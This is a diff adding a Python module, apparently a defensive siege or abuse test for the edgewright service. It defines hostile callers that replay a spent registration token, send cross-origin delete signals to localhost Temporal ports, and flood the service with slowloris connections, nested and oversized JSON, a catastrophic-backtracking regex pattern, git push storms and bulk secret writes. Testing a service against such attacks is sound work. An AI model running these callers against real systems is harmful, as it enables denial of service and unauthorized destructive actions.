@@ -1,0 +1,269 @@
+"""Hostile callers, one of each kind. Each goes on until it is stopped, and waits a moment between two requests."""
+
+import asyncio
+import json
+import os
+import tempfile
+from collections.abc import Awaitable, Callable, Sequence
+from contextlib import suppress
+from dataclasses import dataclass
+from pathlib import Path
+from urllib.parse import urlsplit
+from uuid import UUID
+
+import httpx
+from temporalio.client import Client
+
+from bench.edge_identities import status_of
+from edgewright.messages.names import SIGNAL_EDGE_STATUS, workflow_id
+
+PAUSE = 0.02
+LANES = 4
+"""Connections that one caller uses at once, where the attack is not about connections."""
+ALLOWED = 1024 * 1024
+"""Bytes that most routes took as a body, before limits per route."""
+NESTED = b"[" * (ALLOWED // 2) + b"]" * (ALLOWED // 2)
+WIDE = json.dumps({"hosts": [{"hostname": f"h{n}", "x": [n] * 8} for n in range(12_000)]}).encode()
+IDLE_CONNECTIONS = 1_100
+STREAMS = 600
+UNFINISHED = 32
+SIGNALS = 5_000
+
+
+@dataclass(frozen=True)
+class Target:
+    """What the hostile callers know.
+
+    Args:
+        cluster: one that is theirs: they have its agent's password, and its registration token, which is spent.
+        neighbour: another cluster, whose UUID they know.
+        tokens: permission -> operator token.
+        ports: on which programs of the centre listen.
+        certificate: of theirs, PEM.
+    """
+
+    url: str
+    temporal: str
+    cluster: UUID
+    neighbour: UUID
+    agent_password: str
+    spent_token: str
+    tokens: dict[str, str]
+    ports: Sequence[int]
+    certificate: str
+
+
+Attack = Callable[[Target], Awaitable[None]]
+
+
+async def browser_page(target: Target) -> None:
+    """A web page on the centre's machine: it can send simple requests anywhere, and reads no answer."""
+    bodies = [
+        {
+            "signalOperation": {"signal": signal, "input": {"payloads": [payload]}, "identity": "page"},
+            "visibilityQuery": "WorkflowType='ManagedCluster'",
+            "reason": "page",
+            "jobId": f"page-{signal}",
+        }
+        for signal, payload in (
+            ("delete", {"force": True}),
+            (SIGNAL_EDGE_STATUS, {"kubeseal_cert": target.certificate}),
+        )
+    ]
+    headers = {"Content-Type": "text/plain", "Origin": "http://page.example", "Host": "page.example"}
+    async with httpx.AsyncClient(headers=headers, timeout=5, trust_env=False) as http:
+        while True:
+            for port in target.ports:
+                for body in bodies:
+                    with suppress(httpx.HTTPError):
+                        path = f"/api/v1/namespaces/default/batch-operations/{body['jobId']}"
+                        await http.post(f"http://127.0.0.1:{port}{path}", content=json.dumps(body))
+            await asyncio.sleep(PAUSE)
+
+
+async def spent_token(target: Target) -> None:
+    """Somebody with a bootstrap line that was used long ago."""
+    await _repeatedly(target, "POST", "/v1/register", NESTED, {"Authorization": f"Bearer {target.spent_token}"})
+
+
+async def edge(target: Target) -> None:
+    """Whoever is admin on one edge: other statuses, answers that nobody asked for, deep and wide documents."""
+    agent = httpx.BasicAuth(str(target.cluster), target.agent_password)
+    changes = iter(range(1_000_000_000))
+
+    def status() -> bytes:
+        return json.dumps(status_of(target.certificate, "main@sha1:0", next(changes))).encode()
+
+    requests: list[tuple[str, str, Callable[[], bytes]]] = [
+        ("POST", "/v1/agent/heartbeat", lambda: NESTED),
+        ("POST", "/v1/agent/resealed", lambda: WIDE),
+        ("PUT", "/v1/agent/status", lambda: WIDE),
+        ("PUT", "/v1/agent/status", status),
+    ]
+    async with _client(target, auth=agent) as http:
+        await asyncio.gather(*(_lane(http, method, path, body) for method, path, body in requests))
+
+
+async def connections(target: Target) -> None:
+    """Somebody who can reach the port: silent connections, half a header, and a header without an end."""
+    address = urlsplit(target.url)
+    idle: list[asyncio.StreamWriter] = []
+    try:
+        for number in range(IDLE_CONNECTIONS):
+            with suppress(OSError):
+                _, writer = await asyncio.open_connection(address.hostname, address.port)
+                idle.append(writer)
+                if number % 2:
+                    writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Half")
+        line = b"X-Filler: " + b"x" * 8000 + b"\r\n"
+        while True:
+            with suppress(OSError):
+                _, writer = await asyncio.open_connection(address.hostname, address.port)
+                writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
+                for _ in range(9_000):
+                    writer.write(line)
+                    await writer.drain()
+                writer.close()
+            await asyncio.sleep(PAUSE)
+    finally:
+        for writer in idle:
+            writer.close()
+
+
+async def reader(target: Target) -> None:
+    """A token with ``read``: event streams, and fetches that it begins and never ends."""
+    address = urlsplit(target.url)
+    bearer = f"Authorization: Bearer {target.tokens['read']}\r\n"
+    fetch = (
+        f"POST /uuid/{target.neighbour}/git-upload-pack HTTP/1.1\r\nHost: x\r\n{bearer}"
+        "Content-Type: application/x-git-upload-pack-request\r\nContent-Length: 5000\r\n\r\n0011"
+    )
+    stream = f"GET /v1/events HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\n{bearer}\r\n"
+    kept: list[asyncio.StreamWriter] = []
+    try:
+        while True:
+            for request in [fetch] * UNFINISHED + [stream] * STREAMS:
+                with suppress(OSError):
+                    _, writer = await asyncio.open_connection(address.hostname, address.port)
+                    writer.write(request.encode())
+                    kept.append(writer)
+            await asyncio.sleep(5)
+            for writer in kept:
+                writer.close()
+            kept.clear()
+    finally:
+        for writer in kept:
+            writer.close()
+
+
+async def pusher(target: Target) -> None:
+    """A token with ``push``: one blob under a thousand names, again and again."""
+    with tempfile.TemporaryDirectory(prefix="edgewright-siege-") as folder:
+        work = Path(folder)
+        remote = target.url.replace("://", f"://x:{target.tokens['push']}@")
+        await _git(work, "clone", "-q", f"{remote}/uuid/{target.cluster}", "work")
+        copies = work / "work" / "by-hand"
+        copies.mkdir(exist_ok=True)
+        await asyncio.to_thread((copies / "blob-0").write_bytes, bytes(8 * 1024 * 1024))
+        for number in range(1, 1_000):
+            await asyncio.to_thread(os.link, copies / "blob-0", copies / f"blob-{number}")
+        await _git(work / "work", "add", "-A")
+        while True:
+            await _git(
+                work / "work", "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x", "--allow-empty"
+            )
+            await _git(work / "work", "push", "-q", "origin", "HEAD:main")
+            await asyncio.sleep(PAUSE)
+
+
+async def planner(target: Target) -> None:
+    """A token with ``clusters``: deep and wide values, and a schema whose pattern takes for ever."""
+    token = {"Authorization": f"Bearer {target.tokens['clusters']}", "Content-Type": "application/json"}
+    schema = json.dumps({"type": "object", "properties": {"hosts": {"type": "array"}, "x": {"pattern": "^(a+)+$"}}})
+    schemas, statuses = "dbd8a535-52ba-4f6e-b4f8-9b71aefe09d3", "747a62c9-1b66-4a2e-8dd9-0b70a91b6b75"
+    values = json.dumps({"values": {"x": {f"k{n}": n for n in range(20_000)}}}).encode()
+    requests = [
+        ("PUT", f"/v1/app/{schemas}/object/{statuses}", schema.encode()),
+        ("PATCH", f"/v1/cluster/{target.cluster}", NESTED),
+        ("PATCH", f"/v1/cluster/{target.cluster}", values),
+    ]
+    async with _client(target, headers=token) as http:
+        await asyncio.gather(*(_lane(http, method, path, lambda b=body: b) for method, path, body in requests))
+
+
+async def signals(target: Target) -> None:
+    """Access to Temporal's port: a flood of statuses to one cluster."""
+    temporal = await Client.connect(target.temporal)
+    handle = temporal.get_workflow_handle(workflow_id(target.cluster))
+    for number in range(SIGNALS):
+        with suppress(Exception):
+            await handle.signal(SIGNAL_EDGE_STATUS, {"hosts": [{"hostname": f"flood-{number}"}]})
+    await asyncio.Event().wait()
+
+
+async def bulk_writer(target: Target) -> None:
+    """A token with ``secrets``: a thousand keys of one Secret at a time."""
+    token = {"Authorization": f"Bearer {target.tokens['secrets']}", "Content-Type": "application/json"}
+    path = f"/v1/cluster/{target.cluster}/secret"
+
+    async def lane(http: httpx.AsyncClient, name: str) -> None:
+        for number in range(1_000_000):
+            changes = [
+                {"namespace": "siege", "name": "bulk", "key": f"{name}-{key}", "value_base64": f"{number:08d}"}
+                for key in range(1_000)
+            ]
+            with suppress(httpx.HTTPError):
+                await http.post(path, content=json.dumps({"changes": changes}))
+            await asyncio.sleep(PAUSE)
+
+    async with _client(target, headers=token) as http:
+        await asyncio.gather(lane(http, "one"), lane(http, "two"))
+
+
+ATTACKS: dict[str, Attack] = {
+    "browser-page": browser_page,
+    "spent-token": spent_token,
+    "edge": edge,
+    "connections": connections,
+    "read-token": reader,
+    "push-token": pusher,
+    "clusters-token": planner,
+    "signal-flood": signals,
+    "bulk-writer": bulk_writer,
+}
+
+
+async def _repeatedly(target: Target, method: str, path: str, body: bytes, headers: dict[str, str]) -> None:
+    async with _client(target, headers={**headers, "Content-Type": "application/json"}) as http:
+        await asyncio.gather(*(_lane(http, method, path, lambda: body) for _ in range(LANES)))
+
+
+async def _lane(http: httpx.AsyncClient, method: str, path: str, body: Callable[[], bytes]) -> None:
+    while True:
+        with suppress(httpx.HTTPError):
+            await http.request(method, path, content=body())
+        await asyncio.sleep(PAUSE)
+
+
+def _client(
+    target: Target, *, headers: dict[str, str] | None = None, auth: httpx.BasicAuth | None = None
+) -> httpx.AsyncClient:
+    return httpx.AsyncClient(base_url=target.url, headers=headers, auth=auth, timeout=30, trust_env=False)
+
+
+async def _git(where: Path, *arguments: str) -> None:
+    """A refusal is what the attacker expects."""
+    process = await asyncio.create_subprocess_exec(
+        "git",
+        *arguments,
+        cwd=where,
+        stdin=asyncio.subprocess.DEVNULL,
+        stdout=asyncio.subprocess.DEVNULL,
+        stderr=asyncio.subprocess.DEVNULL,
+    )
+    try:
+        await process.wait()
+    finally:
+        if process.returncode is None:
+            process.kill()
+            await process.wait()
